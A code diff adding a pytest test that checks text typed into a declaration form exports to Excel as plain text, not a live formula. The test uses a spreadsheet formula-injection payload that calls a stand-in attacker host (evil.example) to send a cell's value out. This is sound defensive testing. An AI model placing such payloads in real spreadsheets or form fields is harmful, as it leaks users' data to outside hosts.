@@ -4,6 +4,7 @@ masked, only what the user may see, streamed in a fixed number of queries."""
 import io
 import re
 from datetime import date
+from typing import Any
 
 import openpyxl
 import pytest
@@ -218,3 +219,26 @@ def test_reports_export_masks_the_reporters_phone(reviewer, reviewer_other_distr
         logged_in(reviewer_other_district).get("/staff/stats/exports/reports.xlsx?status=all")
     )
     assert not any(report.code in row for row in other)
+
+
+def test_owner_text_never_becomes_a_formula_in_form_1():
+    """Found in review: "=HYPERLINK(…)" typed as a machine model was a live formula."""
+    import zipfile
+
+    from documents.data import DeclarationForm, DeclaredMachine
+    from documents.declaration_form import declaration_forms_xlsx
+
+    payload = '=HYPERLINK("https://evil.example/?d="&E4,"核对信息")'
+    fields = {f: "" for f in DeclaredMachine.__dataclass_fields__}
+    machine = DeclaredMachine(**{**fields, "model": payload, "maker": "=1+2"})
+    form_fields: dict[str, Any] = {f: "" for f in DeclarationForm.__dataclass_fields__}
+    form = DeclarationForm(**{**form_fields, "owner_name": "=1+1", "machines": (machine,)})
+    data = declaration_forms_xlsx([form])
+    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+    cells = [
+        c
+        for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)
+        for c in row
+    ]
+    assert payload in cells and "=1+1" in cells
